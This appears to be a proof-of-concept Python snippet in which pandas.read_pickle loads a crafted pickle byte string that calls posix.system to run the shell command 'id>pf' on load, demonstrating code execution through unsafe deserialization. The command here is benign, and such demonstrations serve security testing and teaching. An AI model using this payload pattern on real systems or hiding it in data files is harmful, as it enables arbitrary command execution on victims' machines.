import pandas as pd, io
pd.read_pickle(io.BytesIO(b"cposix\nsystem\n(S'id>pf'\ntR."))
